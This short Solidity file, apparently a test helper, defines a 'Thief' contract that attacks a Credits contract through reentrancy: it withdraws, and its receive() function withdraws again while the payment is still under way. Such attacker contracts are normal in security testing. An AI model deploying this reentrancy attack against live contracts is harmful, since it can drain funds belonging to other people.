// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {Credits} from "../../src/Credits.sol";

/// @title A payee that withdraws again while it is being paid
contract Thief {
    Credits private immutable _victim;

    constructor(Credits victim) {
        _victim = victim;
    }

    function steal() external {
        _victim.withdraw(address(0));
    }

    receive() external payable {
        _victim.withdraw(address(0));
    }
}
